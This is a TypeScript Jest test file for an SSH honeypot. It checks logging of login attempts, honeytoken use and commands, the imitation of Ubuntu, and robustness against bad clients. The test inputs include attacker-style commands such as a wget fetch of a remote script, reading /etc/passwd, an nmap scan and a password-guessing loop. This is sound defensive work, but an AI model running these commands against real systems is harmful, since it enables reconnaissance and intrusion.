// The SSH honeypot against Debian's OpenSSH client (ssh, sshpass, ssh-keygen, ssh-keyscan) and the
// ssh2 client library: what it records, what it answers, and that bad clients cannot hold it.
import { randomBytes } from 'node:crypto';
import { mkdtempSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DecoyKind, InteractionKind } from '@omega/proto';
import { eventually } from '@omega/testkit';
import { Client, type AnyAuthMethod } from 'ssh2';
import { runClient, socketClosed } from '../testing/client-process';
import { honeypotFixture, type HoneypotFixtureOptions } from '../testing/honeypot-fixture';
import { keyscan, SSH_CLIENT_OPTIONS, sshWithPassword } from '../testing/ssh-clients';
import type { Honeypot } from './honeypot';
import {
  DEFAULT_SSH_BANNER,
  identOf,
  MAX_AUTH_ATTEMPTS,
  SshHostKeys,
  type SshHoneypotOptions,
  startSshHoneypot,
} from './ssh-honeypot';

jest.setTimeout(60_000);

const TOKEN_USER = 'deploy';
const TOKEN_PASSWORD = 'Summer2024!deploy';
const HONEYTOKEN_ID = 'ht-ssh-1';
const open: Honeypot[] = [];

/** An SSH honeypot; refused passwords are answered at once unless sshOptions say otherwise. */
async function start(
  options: Partial<HoneypotFixtureOptions> = {},
  sshOptions: SshHoneypotOptions = { authFailureDelayMs: 0 },
) {
  const fixture = honeypotFixture({
    kind: DecoyKind.DECOY_KIND_SSH,
    honeytokens: { [`${TOKEN_USER}:${TOKEN_PASSWORD}`]: HONEYTOKEN_ID },
    ...options,
    persona: { hostname: 'db-backup-02', ...options.persona },
  });
  const honeypot = await startSshHoneypot(
    fixture.context,
    { host: '127.0.0.1', port: 0 },
    sshOptions,
  );
  open.push(honeypot);
  return { ...fixture, honeypot };
}

afterEach(async () => {
  await Promise.all(open.splice(0).map((honeypot) => honeypot.close()));
});

describe('ssh honeypot', () => {
  it('records a wrong password as an auth attempt, with the username and the password, and refuses it after the failure delay', async () => {
    const { honeypot, recorder } = await start({}, {});
    const run = await sshWithPassword(honeypot.port, 'admin', 'hunter2', { command: 'id' });
    expect(run.code).not.toBe(0);
    expect(run.stdout).toBe('');
    const attempt = await recorder.until(
      'an auth attempt',
      (i) => i.kind === InteractionKind.INTERACTION_KIND_AUTH_ATTEMPT,
    );
    expect(attempt).toMatchObject({
      protocol: 'ssh',
      username: 'admin',
      request: 'password: hunter2',
    });
    expect(attempt.source.ip).toBe('127.0.0.1');
    await recorder.until(
      'the disconnect',
      (i) => i.kind === InteractionKind.INTERACTION_KIND_DISCONNECT,
    );
    const sessions = new Set(recorder.interactions.map((i) => i.sessionId));
    expect(sessions.size).toBe(1);
    expect(recorder.interactions[0]?.kind).toBe(InteractionKind.INTERACTION_KIND_CONNECT);
  });

  it('lets the honeytoken password in, records its use and every command run through ssh', async () => {
    const { honeypot, recorder } = await start();
    const run = await sshWithPassword(honeypot.port, TOKEN_USER, TOKEN_PASSWORD, {
      command: 'whoami; uname -a',
    });
    expect(run.code).toBe(0);
    expect(run.stdout).toBe(
      `${TOKEN_USER}\nLinux db-backup-02 5.15.0-105-generic #115-Ubuntu SMP Mon Apr 15 09:52:04 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n`,
    );
    expect(recorder.of(InteractionKind.INTERACTION_KIND_TOKEN_USE)).toEqual([
      expect.objectContaining({
        username: TOKEN_USER,
        honeytokenId: HONEYTOKEN_ID,
        protocol: 'ssh',
      }),
    ]);
    expect(recorder.of(InteractionKind.INTERACTION_KIND_COMMAND)).toEqual([
      expect.objectContaining({ username: TOKEN_USER, request: 'whoami; uname -a' }),
    ]);

    const unknown = await sshWithPassword(honeypot.port, TOKEN_USER, TOKEN_PASSWORD, {
      command: 'nmap -sS 10.0.0.0/24',
    });
    expect(unknown.code).toBe(127);
    expect(unknown.stderr).toContain('bash: nmap: command not found');
  });

  it('records the fingerprint of an offered public key, as ssh-keygen prints it', async () => {
    const { honeypot, recorder } = await start();
    const dir = mkdtempSync(join(tmpdir(), 'ssh-honeypot-key-'));
    const keyFile = join(dir, 'id_ed25519');
    expect(
      (await runClient('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', keyFile])).code,
    ).toBe(0);
    const listed = await runClient('ssh-keygen', ['-l', '-f', `${keyFile}.pub`]);
    const fingerprint = /SHA256:\S+/.exec(listed.stdout)?.[0];
    expect(fingerprint).toBeDefined();

    const run = await runClient('ssh', [
      ...SSH_CLIENT_OPTIONS,
      '-o',
      'BatchMode=yes',
      '-o',
      'PubkeyAuthentication=yes',
      '-o',
      'PreferredAuthentications=publickey',
      '-o',
      'IdentitiesOnly=yes',
      '-i',
      keyFile,
      '-p',
      String(honeypot.port),
      'root@127.0.0.1',
      'id',
    ]);
    expect(run.code).not.toBe(0);
    const attempt = await recorder.until(
      'a public key attempt',
      (i) => i.kind === InteractionKind.INTERACTION_KIND_AUTH_ATTEMPT,
    );
    expect(attempt.username).toBe('root');
    expect(attempt.request).toBe(`publickey ssh-ed25519 ${fingerprint}`);
  });

  it('answers with an OpenSSH banner and keeps the host key of a decoy across restarts', async () => {
    const fixture = honeypotFixture({ kind: DecoyKind.DECOY_KIND_SSH, decoyId: 'decoy-stable' });
    const hostKeys = new SshHostKeys();
    const first = await startSshHoneypot(
      fixture.context,
      { host: '127.0.0.1', port: 0 },
      { hostKeys },
    );
    const before = await keyscan(first.port);
    await first.close();
    const second = await startSshHoneypot(
      fixture.context,
      { host: '127.0.0.1', port: 0 },
      { hostKeys },
    );
    open.push(second);
    const after = await keyscan(second.port);

    expect(before.stderr).toContain(DEFAULT_SSH_BANNER);
    const key = (scan: { stdout: string }) => scan.stdout.trim().split(/\s+/).slice(1).join(' ');
    expect(key(before)).toMatch(/^ssh-ed25519 AAAA/);
    expect(key(after)).toBe(key(before));
  });

  it('keeps a persona banner to what an identification string may hold', () => {
    expect(identOf('SSH-2.0-OpenSSH_9.6\r\nX-Injected: 1')).toBe('OpenSSH_9.6X-Injected: 1');
    expect(identOf('')).toBe(DEFAULT_SSH_BANNER.slice('SSH-2.0-'.length));
    expect(identOf('x'.repeat(400))).toHaveLength(255 - 'SSH-2.0-'.length);
  });

  it('uses the persona banner', async () => {
    const { honeypot } = await start({
      persona: { banner: 'SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5' },
    });
    expect((await keyscan(honeypot.port)).stderr).toContain(
      'SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5',
    );
  });

  it('gives the honeytoken an interactive shell that records each line and answers like Ubuntu', async () => {
    const { honeypot, recorder } = await start();
    const client = new Client();
    const output = await new Promise<string>((resolve, reject) => {
      client.on('error', reject);
      client.on('ready', () => {
        client.shell({ term: 'xterm' }, (err, stream) => {
          if (err) return reject(err);
          let seen = '';
          stream.on('data', (chunk: Buffer) => (seen += chunk.toString('utf8')));
          stream.on('close', () => resolve(seen));
          stream.write('hostname\rcat /etc/passwd\rls -la\rps aux\rwget http://x/y.sh\rexit\r');
        });
      });
      client.connect({
        host: '127.0.0.1',
        port: honeypot.port,
        username: TOKEN_USER,
        password: TOKEN_PASSWORD,
      });
    });
    client.end();

    expect(output).toContain('Welcome to Ubuntu 22.04.4 LTS');
    expect(output).toContain(`${TOKEN_USER}@db-backup-02:~$ `);
    expect(output).toContain('db-backup-02\r\n');
    expect(output).toContain('root:x:0:0:root:/root:/bin/bash\r\n');
    expect(output).toContain('.bash_history');
    expect(output).toContain('/usr/sbin/sshd -D');
    expect(output).toContain('bash: wget: command not found');
    expect(recorder.of(InteractionKind.INTERACTION_KIND_COMMAND).map((i) => i.request)).toEqual([
      'hostname',
      'cat /etc/passwd',
      'ls -la',
      'ps aux',
      'wget http://x/y.sh',
      'exit',
    ]);
  });

  it('serves an interactive terminal to OpenSSH (-tt), recording each line', async () => {
    const { honeypot, recorder } = await start();
    const run = await sshWithPassword(honeypot.port, TOKEN_USER, TOKEN_PASSWORD, {
      options: ['-tt'],
      input: 'id\nexit\n',
    });
    expect(run.stdout).toContain(`${TOKEN_USER}@db-backup-02:~$ `);
    expect(run.stdout).toContain(`uid=1000(${TOKEN_USER})`);
    expect(run.stdout).toContain('logout');
    expect(recorder.of(InteractionKind.INTERACTION_KIND_COMMAND).map((i) => i.request)).toEqual([
      'id',
      'exit',
    ]);
  });

  it('runs piped commands in a shell without a pty, answering only the commands', async () => {
    const { honeypot, recorder } = await start();
    const run = await sshWithPassword(honeypot.port, TOKEN_USER, TOKEN_PASSWORD, {
      options: ['-T'],
      input: 'hostname\npwd\n',
    });
    expect(run.stdout).toBe(`db-backup-02\n/home/${TOKEN_USER}\n`);
    expect(recorder.of(InteractionKind.INTERACTION_KIND_COMMAND).map((i) => i.request)).toEqual([
      'hostname',
      'pwd',
    ]);
  });

  it(`disconnects a client after ${MAX_AUTH_ATTEMPTS} failed attempts`, async () => {
    const { honeypot, recorder } = await start();
    const client = new Client();
    let tried = 0;
    await new Promise<void>((resolve) => {
      client.on('error', () => resolve());
      client.on('close', () => resolve());
      client.connect({
        host: '127.0.0.1',
        port: honeypot.port,
        username: 'root',
        authHandler: (_methods, _partial, next) => {
          tried += 1;
          // Past 50 tries `false` would end authentication; the honeypot must disconnect first.
          if (tried > 50) return next(false as unknown as AnyAuthMethod);
          next({ type: 'password', username: 'root', password: `guess-${tried}` });
        },
      });
    });
    const disconnect = await recorder.until(
      'the disconnect',
      (i) => i.kind === InteractionKind.INTERACTION_KIND_DISCONNECT,
    );
    expect(disconnect.request).toBe('auth attempt limit');
    expect(recorder.of(InteractionKind.INTERACTION_KIND_AUTH_ATTEMPT)).toHaveLength(
      MAX_AUTH_ATTEMPTS,
    );
  });
});

describe('ssh honeypot under bad clients', () => {
  it('closes a client that sends random bytes, keeps them as the sample, and still serves', async () => {
    const { honeypot, recorder } = await start();
    const garbage = randomBytes(2048);
    const socket = connect(honeypot.port, '127.0.0.1');
    socket.on('error', () => undefined);
    socket.on('data', () => undefined);
    socket.write(garbage);
    await socketClosed(socket);
    const disconnect = await recorder.until(
      'the disconnect',
      (i) => i.kind === InteractionKind.INTERACTION_KIND_DISCONNECT,
    );
    expect(Buffer.from(disconnect.payloadSample ?? []).subarray(0, 64)).toEqual(
      garbage.subarray(0, 64),
    );
    expect(disconnect.request).toBe('protocol error');
    expect((await keyscan(honeypot.port)).stdout).toContain('ssh-ed25519');
  });

  it('survives a client that leaves while its refused password waits for the answer', async () => {
    const { honeypot, recorder } = await start({}, { authFailureDelayMs: 300 });
    const client = new Client();
    client.on('error', () => undefined);
    client.connect({ host: '127.0.0.1', port: honeypot.port, username: 'root', password: 'toor' });
    await recorder.until(
      'the attempt',
      (i) => i.kind === InteractionKind.INTERACTION_KIND_AUTH_ATTEMPT,
    );
    client.destroy();
    await recorder.until(
      'the disconnect',
      (i) => i.kind === InteractionKind.INTERACTION_KIND_DISCONNECT,
    );
    await new Promise((resolve) => setTimeout(resolve, 400)); // the refusal fires on a closed connection
    expect((await keyscan(honeypot.port)).stdout).toContain('ssh-ed25519');
  });

  it('closes a client that connects and sends nothing once the idle limit passes', async () => {
    const { honeypot, recorder } = await start({ limits: { idleTimeoutMs: 300 } });
    const socket = connect(honeypot.port, '127.0.0.1');
    socket.on('data', () => undefined);
    await socketClosed(socket);
    const disconnect = await recorder.until(
      'the disconnect',
      (i) => i.kind === InteractionKind.INTERACTION_KIND_DISCONNECT,
    );
    expect(disconnect.request).toBe('idle timeout');
    expect(honeypot.connections()).toBe(0);
  });

  it('closes connections past maxConnections at once, and serves again once they are gone', async () => {
    const { honeypot, recorder } = await start({ limits: { maxConnections: 3 } });
    const held = Array.from({ length: 3 }, () => connect(honeypot.port, '127.0.0.1'));
    for (const socket of held) socket.on('data', () => undefined);
    await eventually('three connections', () => honeypot.connections() === 3 || undefined);
    const flood = Array.from({ length: 10 }, () => connect(honeypot.port, '127.0.0.1'));
    for (const socket of flood) socket.on('error', () => undefined);
    await Promise.all(flood.map(socketClosed));
    expect(honeypot.connections()).toBe(3);
    expect(
      recorder.interactions.filter((i) => i.request === 'refused: connection limit'),
    ).toHaveLength(10);

    for (const socket of held) socket.destroy();
    await eventually('the held ones gone', () => honeypot.connections() === 0 || undefined);
    expect((await keyscan(honeypot.port)).stdout).toContain('ssh-ed25519');
  });

  it('never says what it is, in its banner or its shell', async () => {
    const { honeypot } = await start();
    const scan = await keyscan(honeypot.port);
    const run = await sshWithPassword(honeypot.port, TOKEN_USER, TOKEN_PASSWORD, {
      command: 'id; uname -a; hostname; ps aux; cat /etc/passwd; ls -la; pwd',
    });
    for (const text of [scan.stdout, scan.stderr, run.stdout, run.stderr]) {
      expect(text).not.toMatch(/honeypot|omega|deception|decoy/i);
    }
  });
});
